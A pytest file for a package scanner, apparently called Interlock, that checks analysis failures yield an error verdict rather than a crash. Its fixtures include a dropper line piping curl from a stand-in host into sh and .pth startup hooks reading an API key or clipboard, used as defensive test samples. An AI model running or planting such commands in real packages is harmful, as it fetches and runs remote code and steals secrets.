"""A release must never crash its judge: what used to end in a traceback is judged, and a part of
the analysis that fails makes the verdict `error` (a gate blocks it) with a finding naming the part."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path

import pytest
import yara_x

from interlock.analysis import engine
from interlock.analysis.evidence import Evidence
from interlock.analysis.extract.python import reader
from interlock.analysis.extract.yara_rules import YaraRules
from interlock.analysis.facts import Capability, Tag
from interlock.analysis.rules import FILE_RULES
from interlock.analysis.rules.base import Rule
from interlock.cli import main
from interlock.demo.wheel import wheel_bytes, wheel_filename
from interlock.model.findings import Finding, Severity
from interlock.model.rules import RuleInfo, Stage
from interlock.model.verdict import Verdict
from tests.builders import findings_of, rule_ids, scan_wheel, wheel

# Each used to end `interlock scan` in a KeyError traceback: their capabilities had no verb phrase.
CRASHING_PTH = {
    "env-secret": 'import os; os.getenv("API_KEY")\n',
    "clipboard": "import pyperclip; pyperclip.paste()\n",
}


@pytest.mark.parametrize("kind", sorted(CRASHING_PTH))
def test_a_pth_that_used_to_crash_the_scanner_is_judged(kind: str) -> None:
    result = scan_wheel({"demo_hook.pth": CRASHING_PTH[kind], "demo/__init__.py": ""})
    assert result.verdict is not Verdict.ERROR, result.error
    (pth,) = findings_of(result, "startup-pth-exec")
    assert pth.severity is Severity.HIGH and pth.path == "demo_hook.pth"


@pytest.mark.parametrize("kind", sorted(CRASHING_PTH))
def test_interlock_scan_of_such_a_wheel_exits_with_a_verdict_not_a_traceback(kind: str, tmp_path: Path) -> None:
    path = tmp_path / wheel_filename("demo", "1.0")
    path.write_bytes(wheel_bytes("demo", "1.0", {"demo_hook.pth": CRASHING_PTH[kind], "demo/__init__.py": ""}))
    completed = subprocess.run(
        [str(Path(sys.executable).parent / "interlock"), "scan", "--format", "json", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "Traceback" not in completed.stderr
    assert completed.returncode == 1, completed.stderr  # suspicious or worse: the default policy blocks it
    assert '"verdict": "suspicious"' in completed.stdout or '"verdict": "malicious"' in completed.stdout


def test_every_capability_carries_its_phrase() -> None:
    for capability in Capability:
        assert capability.action and capability.action[0].islower(), capability


def _raising_rule() -> Rule:
    info = RuleInfo("test-raises", "a rule with a bug", (Severity.HIGH,), "raises", Stage.FILES)

    def check(evidence: Evidence) -> Iterable[Finding]:
        raise KeyError("a phrase nobody added")

    return Rule(info, check)


@pytest.fixture
def a_rule_that_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    # The raising rule runs first, so the rules after it must still report.
    monkeypatch.setattr(engine, "FILE_RULES", (_raising_rule(), *FILE_RULES))


DROPPER = {"demo/__init__.py": "import os\nos.system('curl -s http://x.example/p | sh')\n"}


@pytest.mark.usefixtures("a_rule_that_raises")
def test_a_rule_that_raises_makes_the_verdict_error_and_the_other_rules_still_report() -> None:
    result = scan_wheel(DROPPER)
    assert result.verdict is Verdict.ERROR
    assert result.error is not None and "rule test-raises" in result.error and "KeyError" in result.error
    (failure,) = findings_of(result, "analysis-error")
    assert "rule test-raises failed" in failure.message
    assert "shell-download" in rule_ids(result)  # the dropper is still reported


@pytest.mark.usefixtures("a_rule_that_raises")
def test_the_cli_reports_a_failing_rule_as_could_not_analyse(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / wheel_filename("demo", "1.0")
    path.write_bytes(wheel_bytes("demo", "1.0", DROPPER))
    status = main(["scan", "--no-cache", str(path)])
    out, err = capsys.readouterr()
    assert status == 3  # could not analyse: a gate treats it as a block
    assert "Traceback" not in out + err and "ERROR" in out


def test_an_extractor_that_raises_on_one_file_names_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    real = reader.analyse_text

    def fails_on_one_file(path: str, *args: object, **kwargs: object) -> None:
        if path == "demo/broken.py":
            raise RecursionError("the reader's own bug")
        real(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(reader, "analyse_text", fails_on_one_file)
    result = scan_wheel({**DROPPER, "demo/broken.py": "x = 1\n"})
    assert result.verdict is Verdict.ERROR
    (failure,) = findings_of(result, "analysis-error")
    assert failure.path == "demo/broken.py" and "RecursionError" in failure.message
    assert "shell-download" in rule_ids(result)
    assert "analysis-error" not in rule_ids(scan_wheel(DROPPER))  # without that file, nothing failed


def test_a_yara_engine_failure_is_a_finding_not_a_crash(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "rules.yar").write_text('rule Anything { strings: $a = "import" condition: $a }\n')
    rules = YaraRules(tmp_path)

    class FailingScanner:
        # yara-x's scanner raises ScanError on engine trouble; nothing built in a test makes it do so.
        def __init__(self, compiled: object) -> None:
            pass

        def set_timeout(self, seconds: int) -> None:
            pass

        def scan(self, data: bytes) -> object:
            raise yara_x.ScanError("engine trouble")

    monkeypatch.setattr(yara_x, "Scanner", FailingScanner)
    artifact = wheel(DROPPER)
    result = engine.scan_artifact(artifact, "demo", yara=rules)
    failures = findings_of(result, "yara-error")
    assert failures and all(f.severity is Severity.LOW for f in failures)
    assert {f.path for f in failures} >= {"demo/__init__.py"}
    assert result.verdict is Verdict.MALICIOUS  # Interlock's own analysis is unaffected


def test_a_yara_rule_is_clean_when_it_does_not_match(tmp_path: Path) -> None:
    (tmp_path / "rules.yar").write_text('rule Never { strings: $a = "no-such-text-anywhere" condition: $a }\n')
    result = engine.scan_artifact(wheel(DROPPER), "demo", yara=YaraRules(tmp_path))
    assert not findings_of(result, "yara-error")


def test_facts_carry_what_rules_decide_on_in_fields() -> None:
    """A rule decides on tags, kinds and names; the detail is free to be reworded."""
    result = engine.analyse(
        wheel({"demo/__init__.py": "import subprocess\nsubprocess.run(['cmake', '--build', '.'])\nexec('x = 1')\n"})
    )
    by_capability = {fact.capability: fact for fact in result.evidence.facts}
    assert Tag.BUILD_TOOL in by_capability[Capability.PROCESS].tags
    assert by_capability[Capability.PROCESS].names == ("cmake", "--build", ".")
    assert Tag.LITERAL_CODE in by_capability[Capability.EXEC].tags
